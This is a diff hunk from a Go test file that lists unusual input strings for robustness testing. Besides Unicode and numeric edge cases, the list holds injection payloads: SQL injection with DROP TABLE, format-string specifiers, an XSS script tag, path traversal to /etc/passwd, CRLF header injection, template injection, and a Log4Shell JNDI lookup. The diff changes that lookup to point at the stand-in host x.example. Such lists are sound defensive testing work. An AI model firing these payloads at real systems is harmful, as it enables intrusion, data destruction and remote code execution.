@@ -59,7 +59,7 @@ func remember(list []string, s string) []string {
 // texts are strings that somebody somewhere did not expect.
 var texts = []string{
 	"", " ", "\t\r\n", "\x00", "a\x00b", "\xff\xfe", "\xed\xa0\x80", "\u202egnp", "\ufeff", "é", "e\u0301", "\U0001f3ab", "\U0010ffff",
-	"' OR '1'='1", `"; --`, "1); DROP TABLE x; --", "%", "_", "%%%s%n%x", "\\", "${jndi:ldap://127.0.0.1:1/a}", "{{7*7}}", "#{7*7}",
+	"' OR '1'='1", `"; --`, "1); DROP TABLE x; --", "%", "_", "%%%s%n%x", "\\", "${jndi:ldap://x.example/a}", "{{7*7}}", "#{7*7}",
 	"<script>alert(1)</script>", "../../../etc/passwd", "..\\..\\x", "/dev/null", "\r\nX-Injected: yes", "\nX-Injected: yes\n\n",
 	"null", "undefined", "true", "NaN", "-1", "0", "1e400", "0x10", "9223372036854775808", "-9223372036854775809", "1.7976931348623157e309",
 	"{}", "[]", "__proto__", "constructor", "id", "2026-02-30T25:61:61Z", "Thu, 01 Jan 1970 00:00:00 GMT", "0190a0a0-0000-7000-8000-000000000000",
